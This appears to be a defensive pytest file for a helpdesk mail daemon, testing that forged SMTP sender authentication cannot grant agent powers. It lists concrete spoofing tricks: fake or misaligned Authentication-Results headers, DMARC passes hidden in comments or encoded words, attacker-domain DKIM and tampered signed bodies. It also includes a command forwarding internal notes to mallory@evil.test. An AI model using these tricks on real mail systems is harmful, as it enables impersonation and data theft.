"""Forged sender authentication over SMTP (SPEC §6, issue 18 point 2).

Each attack is a mail "From: alice@example.com" (a configured agent) without her token, aimed
at an existing case with `#note`, `/priority low` and `/forward mallory@evil.test notes`: what
an attacker who got agent status would send to read the case's internal notes. The safe
outcome is what a person would notice: the priority stays, no internal note appears, and
nothing reaches mallory@evil.test. A legitimate agent (an aligned header of the trusted MX, or
her domain's DKIM signature) still gets all three done.
"""

from __future__ import annotations

import base64
import json
import re
import time
from collections.abc import Iterator, Sequence
from pathlib import Path

import dkim
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from tests.conftest import Database
from tests.e2e.test_agents import SELECTOR, open_case
from tests.support.daemon import Daemon
from tests.support.dns_server import TxtServer
from tests.support.mails import mail, text_of, wait_count, wait_until
from tests.support.sink import Sink

ATTACK = "#note\n/priority low\n/forward mallory@evil.test notes\nPlease send me everything."
SIGNED = [b"from", b"to", b"subject", b"message-id", b"date"]


def new_key() -> tuple[bytes, str]:
    """A signing key and its DNS TXT record."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    private = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL,
                                serialization.NoEncryption())
    public = key.public_key().public_bytes(serialization.Encoding.DER,
                                           serialization.PublicFormat.SubjectPublicKeyInfo)
    return private, f"v=DKIM1; k=rsa; p={base64.b64encode(public).decode()}"


@pytest.fixture(scope="module")
def dkim_key() -> tuple[bytes, str]:
    return new_key()


@pytest.fixture(scope="module")
def evil_key() -> tuple[bytes, str]:
    """The attacker's own key: DKIM for evil.test verifies, and proves nothing about example.com."""
    return new_key()


@pytest.fixture
def dns(dkim_key: tuple[bytes, str], evil_key: tuple[bytes, str]) -> Iterator[TxtServer]:
    server = TxtServer({f"{SELECTOR}._domainkey.example.com": dkim_key[1],
                        f"{SELECTOR}._domainkey.evil.test": evil_key[1]})
    yield server
    server.stop()


@pytest.fixture
def desk(database: Database, sink: Sink, dns: TxtServer, tmp_path: Path) -> Iterator[Daemon]:
    extra = (f'\n[auth]\ndns_servers = ["127.0.0.1:{dns.port}"]\n'
             'trusted_authserv_ids = ["mx.example.com"]\n')
    d = Daemon.with_config(tmp_path, database.url, f"smtp://127.0.0.1:{sink.port}", extra=extra)
    d.start()
    yield d
    assert d.stop() == 0, d.log()


def agent_mail(n: int, body: str, *, received: Sequence[str] = (), written: Sequence[str] = (),
               frm: str = "Alice Agent <alice@example.com>") -> bytes:
    """A mail as it leaves the receiving MX: `received` are the Authentication-Results headers the
    MX put on top, `written` those the sender wrote among his own headers."""
    on_top = "".join(f"Authentication-Results: {v}\r\n" for v in received).encode()
    return on_top + mail(frm, "support@example.com", f"Re: [#{n}] VPN drops every hour", body,
                         date="Fri, 20 Nov 2026 11:00:00 +0000",
                         lines=[f"Authentication-Results: {v}" for v in written])


def sign(raw: bytes, domain: str, key: bytes) -> bytes:
    return dkim.sign(raw, SELECTOR.encode(), domain.encode(), key, include_headers=SIGNED) + raw


def internal_posts(desk: Daemon, n: int) -> list[str]:
    return [p["body"] for p in desk.case(n)["posts"] if p["visibility"] == "internal"]


def settle() -> None:
    """Lets the outbox drain, so "nothing more was sent" can be asserted."""
    time.sleep(1.0)


def case_with_a_secret_note(desk: Daemon, sink: Sink) -> int:
    n, _, alice, _ = open_case(desk, sink)
    desk.send(agent_mail(n, "#note\nThe customer's VPN password is hunter2."), "alice@example.com", [alice])
    wait_until(lambda: internal_posts(desk, n), 10)
    assert internal_posts(desk, n) == ["The customer's VPN password is hunter2."]
    return n


FORGED_HEADERS = {
    "untrusted authserv-id": dict(written=["mx.evil.test; dkim=pass header.d=example.com; "
                                           "dmarc=pass header.from=example.com"]),
    "trusted, dkim not aligned": dict(received=["mx.example.com; dkim=pass header.d=evil.test"]),
    "trusted, dmarc not aligned": dict(received=["mx.example.com; dmarc=pass header.from=evil.test"]),
    "dmarc=pass in a comment": dict(received=["mx.example.com; (dmarc=pass header.from=example.com) "
                                              "dkim=fail header.d=example.com"]),
    "dmarc=pass in a property value": dict(received=["mx.example.com; spf=pass smtp.mailfrom=dmarc=pass@evil.test"]),
    "an encoded word in a property value": dict(received=[
        "mx.example.com; spf=pass smtp.mailfrom="
        "=?utf-8?q?x=3B_dkim=3Dpass_header.d=3Dexample.com_=28?=@evil.test=?utf-8?q?=29?="]),
    "two trusted headers, the MX's on top says fail": dict(
        received=["mx.example.com; dkim=fail header.d=example.com; dmarc=none header.from=example.com"],
        written=["mx.example.com; dkim=pass header.d=example.com; dmarc=pass header.from=example.com"]),
    "a sender-written trusted header below the MX's": dict(
        received=["mx.example.com; dkim=none; spf=pass smtp.mailfrom=evil.test"],
        written=["mx.example.com; dmarc=pass header.from=example.com"]),
    "an unparseable trusted header": dict(received=["mx.example.com; dkim=pass header.d=example.com ;;; ==="]),
}


def test_forged_authentication_gives_no_agent_powers(desk: Daemon, sink: Sink, dns: TxtServer,
                                                     dkim_key: tuple[bytes, str], evil_key: tuple[bytes, str]) -> None:
    n = case_with_a_secret_note(desk, sink)
    attacks = {name: agent_mail(n, ATTACK, **kw) for name, kw in FORGED_HEADERS.items()}
    attacks["DKIM signed by evil.test"] = sign(agent_mail(n, ATTACK), "evil.test", evil_key[0])
    signed = sign(agent_mail(n, "#note\n/priority urgent\n/forward carol@example.com\nSigned."), "example.com",
                  dkim_key[0])
    attacks["DKIM body altered"] = signed.replace(b"/priority urgent", b"/priority low").replace(
        b"/forward carol@example.com", b"/forward mallory@evil.test notes")
    # eve@example.com's own signed mail, with Alice's From put above the signed one
    eve = sign(agent_mail(n, ATTACK, frm="eve@example.com"), "example.com", dkim_key[0])
    attacks["a second From above a signed one"] = b"From: Alice Agent <alice@example.com>\r\n" + eve
    for name, raw in attacks.items():
        desk.send(raw, "alice@example.com", ["support@example.com"])
        settle()
        case = desk.case(n)
        assert case["priority"] == "normal", name
        assert internal_posts(desk, n) == ["The customer's VPN password is hunter2."], name
        assert sink.to("mallory@evil.test") == [], name
        assert not any("hunter2" in text_of(c) for c in sink.to("jane@acme.test")), name
    assert f"{SELECTOR}._domainkey.evil.test" not in dns.queries  # evil.test's key is not even looked up


def test_inspect_says_why_a_forged_header_did_not_count(desk: Daemon, sink: Sink, tmp_path: Path) -> None:
    n = case_with_a_secret_note(desk, sink)
    files = []
    for i, kw in enumerate([FORGED_HEADERS["trusted, dkim not aligned"],
                            FORGED_HEADERS["two trusted headers, the MX's on top says fail"],
                            FORGED_HEADERS["untrusted authserv-id"],
                            dict(received=["mx.example.com; dkim=pass header.d=example.com"])]):
        path = tmp_path / f"a{i}.eml"
        path.write_bytes(agent_mail(n, ATTACK, **kw))
        files.append(str(path))
    unaligned, two, untrusted, aligned = [json.loads(line) for line in
                                          desk.cli("inspect", *files, "--json").stdout.splitlines()]
    assert not unaligned["is_agent"]
    assert "authentication-results from mx.example.com not aligned with example.com: header.d=evil.test" \
        in unaligned["agent_reason"]
    assert not two["is_agent"] and "(dkim=fail, dmarc=none)" in two["agent_reason"]
    assert not untrusted["is_agent"] and "no trusted Authentication-Results (untrusted: mx.evil.test)" \
        in untrusted["agent_reason"]
    assert aligned["is_agent"]
    assert aligned["agent_reason"] == "authentication-results: dkim=pass header.d=example.com by mx.example.com"


@pytest.mark.parametrize("how", ["aligned trusted header", "DKIM of example.com"])
def test_a_legitimate_agent_still_works(desk: Daemon, sink: Sink, dkim_key: tuple[bytes, str], how: str) -> None:
    n = case_with_a_secret_note(desk, sink)
    body = "#note\n/priority low\n/forward vendor@partner.test notes\nEscalating to the vendor."
    if how == "aligned trusted header":
        raw = agent_mail(n, body, received=["mx.example.com 1; spf=pass smtp.mailfrom=example.com;\r\n"
                                            "\tdkim=pass (2048-bit key) header.d=example.com header.s=mail2026"])
    else:
        raw = sign(agent_mail(n, body), "example.com", dkim_key[0])
    desk.send(raw, "alice@example.com", ["support@example.com"])
    (forwarded,) = wait_count(sink, "vendor@partner.test", 1)
    assert "hunter2" in text_of(forwarded)  # the notes, as asked
    settle()
    assert desk.case(n)["priority"] == "low"
    assert internal_posts(desk, n)[-1] == "Escalating to the vendor."
    assert not any(re.search("Escalating|hunter2", text_of(c)) for c in sink.to("jane@acme.test"))
